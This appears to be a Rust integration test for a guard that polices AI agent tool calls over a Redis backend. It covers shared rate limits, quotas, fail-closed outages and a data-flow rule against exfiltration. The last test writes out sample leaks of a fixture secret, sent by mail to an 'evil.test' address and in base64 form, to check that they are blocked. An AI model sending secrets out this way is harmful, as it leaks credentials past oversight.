//! The Redis backend against a real redis-server on 127.0.0.1: limits shared
//! by two processes, state that outlives a guard, expiring namespaced keys,
//! and an outage that fails closed (or open, when the policy says so) and
//! recovers. `scripts/test.sh` starts the shared server
//! (`GUARD_TEST_REDIS_URL`); the outage test starts and kills its own.

use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant, SystemTime};

use guard_runtime::policy::{Format, Policy};
use guard_runtime::state::RedisBackend;
use guard_runtime::{
    CallContext, Decision, DenyReason, FnConfirmer, Guard, MemorySink, Outcome, ToolCall,
    secure_tool,
};
use guard_tests::{RedisServer, redis_cli, shared_redis_url};

/// Ping; three calls a minute.
#[secure_tool(risk = "low", rate = 3)]
fn ping() -> &'static str {
    "pong"
}

/// Read the vault; a data-flow source.
#[secure_tool(risk = "low", source = "secrets")]
fn read_vault() -> &'static str {
    "the vault"
}

/// Send an email; a data-flow sink.
#[secure_tool(risk = "medium", sink = "external")]
fn send_mail(to: String) -> String {
    format!("sent to {to}")
}

/// Read the notes; a data-flow source whose output is remembered.
#[secure_tool(risk = "low", source = "notes")]
fn read_notes() -> &'static str {
    "Notes: the staging account is Zq8Lp3Rt9Vx2Mk7W; rotate it after the audit."
}

/// Wipe the cache; needs a person's approval.
#[secure_tool(risk = "high", confirm)]
fn wipe_cache() -> &'static str {
    "wiped"
}

const TOOLS: [&str; 5] = [
    "ping",
    "read_vault",
    "read_notes",
    "send_mail",
    "wipe_cache",
];

const POLICY: &str = r#"
[quotas]
session_calls = 4

[[flows]]
id = "no-exfiltration"
from = "secrets"
to = "external"
action = "block"
window = "session"
"#;

/// A key prefix no other test or run shares.
fn unique_prefix(test: &str) -> String {
    static N: AtomicU32 = AtomicU32::new(0);
    let nanos = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!(
        "guard-test:{test}:{}:{nanos}:{}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    )
}

fn backend(url: &str, prefix: &str) -> RedisBackend {
    RedisBackend::builder(url)
        .prefix(prefix)
        .timeout(Duration::from_millis(500))
        .build()
        .unwrap()
}

fn guard(url: &str, prefix: &str, policy: &str) -> Guard {
    Guard::builder()
        .only(TOOLS)
        .policy(Policy::from_str(policy, Format::Toml).unwrap())
        .state(backend(url, prefix))
        .confirmer(FnConfirmer::new(|_| Decision::ApproveAlways))
        .build()
        .unwrap()
}

fn call(id: &str, tool: &str) -> ToolCall {
    let args = if tool == "send_mail" {
        r#"{"to":"x@example.com"}"#
    } else {
        "{}"
    };
    ToolCall::new(id, tool, args)
}

async fn outcome(guard: &Guard, ctx: &CallContext, tool: &str) -> Outcome {
    guard
        .dispatch(ctx, &[call("c", tool)])
        .await
        .remove(0)
        .outcome
}

#[test]
fn two_processes_share_one_limit_and_admit_exactly_it() {
    let url = shared_redis_url();
    let prefix = unique_prefix("two-processes");
    let spawn = || {
        Command::new(env!("CARGO_BIN_EXE_redis_fixture"))
            .args([&url, &prefix, "24"])
            .output()
    };
    let (a, b) = std::thread::scope(|s| {
        let a = s.spawn(spawn);
        let b = s.spawn(spawn);
        (a.join().unwrap().unwrap(), b.join().unwrap().unwrap())
    });
    let counts = |output: &std::process::Output| -> (u32, u32) {
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        let text = String::from_utf8_lossy(&output.stdout);
        let mut numbers = text.split_whitespace().map(|n| n.parse::<u32>().unwrap());
        (numbers.next().unwrap(), numbers.next().unwrap())
    };
    let (a, b) = (counts(&a), counts(&b));
    assert_eq!(a.0 + b.0, 6, "admitted by the two processes: {a:?} {b:?}");
    assert_eq!(a.1 + b.1, 42);
}

#[tokio::test]
async fn rate_limits_are_gcra_with_the_wait_until_the_next_place() {
    let url = shared_redis_url();
    let guard = guard(&url, &unique_prefix("gcra"), "");
    let ctx = CallContext::new("a");
    for _ in 0..3 {
        assert_eq!(outcome(&guard, &ctx, "ping").await, Outcome::Success);
    }
    let Outcome::RateLimited { retry_after } = outcome(&guard, &ctx, "ping").await else {
        panic!("the fourth call in a minute is limited");
    };
    // Three a minute: the next place opens 20 s after the first call (the
    // lower bound leaves a loaded machine seconds between the calls).
    assert!(
        retry_after > Duration::from_secs(15) && retry_after <= Duration::from_secs(20),
        "{retry_after:?}"
    );
}

#[tokio::test]
async fn quotas_taint_and_always_decisions_survive_a_restart() {
    let url = shared_redis_url();
    let prefix = unique_prefix("restart");
    let ctx = CallContext::new("a").session("s1");
    {
        let first = guard(&url, &prefix, POLICY);
        assert_eq!(outcome(&first, &ctx, "read_vault").await, Outcome::Success);
        // Approved "always" by the confirmer of the first guard.
        assert_eq!(outcome(&first, &ctx, "wipe_cache").await, Outcome::Success);
    }
    // A new guard over a new connection: no approver at all this time.
    let second = Guard::builder()
        .only(TOOLS)
        .policy(Policy::from_str(POLICY, Format::Toml).unwrap())
        .state(backend(&url, &prefix))
        .build()
        .unwrap();
    assert_eq!(
        outcome(&second, &ctx, "send_mail").await,
        Outcome::Denied {
            reason: DenyReason::Flow {
                rule: "no-exfiltration".into()
            }
        },
        "the vault was read in this session before the restart"
    );
    assert_eq!(
        outcome(&second, &ctx, "wipe_cache").await,
        Outcome::Success,
        "the standing approval outlives the guard"
    );
    // read_vault, wipe_cache, wipe_cache: one place left of four (the
    // refused send_mail gave its place back).
    assert_eq!(outcome(&second, &ctx, "ping").await, Outcome::Success);
    assert_eq!(
        outcome(&second, &ctx, "ping").await,
        Outcome::Denied {
            reason: DenyReason::Quota {
                quota: "session_calls".into(),
                limit: 4
            }
        }
    );
    // Another session starts afresh.
    let other = CallContext::new("a").session("s2");
    assert_eq!(
        outcome(&second, &other, "send_mail").await,
        Outcome::Success
    );
    // The counters Cedar policies read: four calls in s1, two of them wipe_cache.
    use guard_runtime::state::StateBackend as _;
    let counts = backend(&url, &prefix)
        .session_counts("s1", "wipe_cache")
        .await;
    assert_eq!(counts, Ok((4, 2)));
}

#[tokio::test]
async fn every_key_is_namespaced_and_expires() {
    let url = shared_redis_url();
    let prefix = unique_prefix("keys");
    let guard = guard(&url, &prefix, POLICY);
    let ctx = CallContext::new("a").session("s1");
    let calls = [
        call("1", "ping"),
        call("2", "read_vault"),
        call("3", "wipe_cache"),
    ];
    for reply in guard.dispatch(&ctx, &calls).await {
        assert_eq!(reply.outcome, Outcome::Success);
    }
    let keys = redis_cli(&url, &["--scan", "--pattern", &format!("{prefix}:*")]);
    let mut kinds: Vec<&str> = keys
        .iter()
        .map(|k| k[prefix.len() + 1..].split(':').next().unwrap())
        .collect();
    kinds.sort_unstable();
    assert_eq!(kinds, ["rate", "session"], "{keys:?}");
    for key in &keys {
        let ttl: i64 = redis_cli(&url, &["pttl", key])[0].parse().unwrap();
        assert!(ttl > 0, "{key} has no expiry ({ttl})");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_outage_fails_closed_unless_the_policy_allows_and_recovers() {
    let mut server = RedisServer::start();
    let sink = MemorySink::new();
    let open_policy = "on_backend_error = \"allow\"";
    let build = |policy: &str, sink: MemorySink| {
        Guard::builder()
            .only(TOOLS)
            .policy(Policy::from_str(policy, Format::Toml).unwrap())
            .state(
                RedisBackend::builder(server.url())
                    .prefix(unique_prefix("outage"))
                    // A loaded CI machine must not turn a slow answer into an
                    // outage; a stopped server refuses connections at once.
                    .timeout(Duration::from_secs(1))
                    .build()
                    .unwrap(),
            )
            .audit(sink)
            .build()
            .unwrap()
    };
    let closed = build("", sink.clone());
    let open_sink = MemorySink::new();
    let open = build(open_policy, open_sink.clone());
    let ctx = CallContext::new("a");
    assert_eq!(outcome(&closed, &ctx, "ping").await, Outcome::Success);

    server.stop();
    let refused = closed.dispatch(&ctx, &[call("c1", "ping")]).await.remove(0);
    assert_eq!(
        refused.outcome,
        Outcome::Denied {
            reason: DenyReason::BackendUnavailable
        }
    );
    assert_eq!(
        refused.content,
        r#"{"error":{"kind":"denied","message":"limits could not be checked right now; the call was not run"}}"#
    );
    let event = sink.take().pop().unwrap();
    assert!(
        event.policy.starts_with("default: backend error: redis: "),
        "{}",
        event.policy
    );
    // A tool that needs no shared state is not affected.
    assert_eq!(outcome(&closed, &ctx, "read_vault").await, Outcome::Success);
    // The policy may let calls through instead.
    assert_eq!(outcome(&open, &ctx, "ping").await, Outcome::Success);
    let event = open_sink.take().pop().unwrap();
    assert!(
        event
            .policy
            .starts_with("default: backend error allowed by policy: redis: "),
        "{}",
        event.policy
    );

    server.restart();
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        match outcome(&closed, &ctx, "ping").await {
            Outcome::Success => break,
            Outcome::Denied {
                reason: DenyReason::BackendUnavailable,
            } if Instant::now() < deadline => tokio::time::sleep(Duration::from_millis(100)).await,
            other => panic!("no recovery: {other:?}"),
        }
    }
    // The restarted server is empty: the limit starts again from three.
    assert_eq!(outcome(&closed, &ctx, "ping").await, Outcome::Success);
    assert_eq!(outcome(&closed, &ctx, "ping").await, Outcome::Success);
    assert!(matches!(
        outcome(&closed, &ctx, "ping").await,
        Outcome::RateLimited { .. }
    ));
}

#[tokio::test]
async fn source_content_is_remembered_in_redis_for_every_replica() {
    let url = shared_redis_url();
    let prefix = unique_prefix("content");
    let reader = guard(&url, &prefix, "");
    let sender = guard(&url, &prefix, "");
    let ctx = CallContext::new("agent").session("s-content");
    assert_eq!(outcome(&reader, &ctx, "read_notes").await, Outcome::Success);

    // Another guard on the same Redis refuses the account going out, even
    // base64-encoded by the model; other text and other sessions pass.
    let send = |to: &str| {
        ToolCall::new(
            "c",
            "send_mail",
            serde_json::json!({ "to": to }).to_string(),
        )
    };
    for to in [
        "Zq8Lp3Rt9Vx2Mk7W@evil.test",
        "WnE4THAzUnQ5Vngy",
        "WnE4THAzUnQ5VngyTWs3Vw==",
    ] {
        let reply = sender.dispatch(&ctx, &[send(to)]).await;
        let expected = if to == "WnE4THAzUnQ5Vngy" {
            // Only half the account: not the content that was read.
            Outcome::Success
        } else {
            Outcome::Denied {
                reason: DenyReason::Leak {
                    kind: "source content".into(),
                },
            }
        };
        assert_eq!(reply[0].outcome, expected, "{to}");
    }
    let other = CallContext::new("agent").session("s-elsewhere");
    let reply = sender
        .dispatch(&other, &[send("Zq8Lp3Rt9Vx2Mk7W@evil.test")])
        .await;
    assert_eq!(reply[0].outcome, Outcome::Success);

    // The fingerprints are one sorted set per session, expiring with it.
    let key = format!("{prefix}:content:s-content");
    let members: i64 = redis_cli(&url, &["zcard", &key])[0].parse().unwrap();
    assert!(members >= 1, "{members}");
    let ttl: i64 = redis_cli(&url, &["pttl", &key])[0].parse().unwrap();
    assert!(ttl > 0, "{ttl}");
}
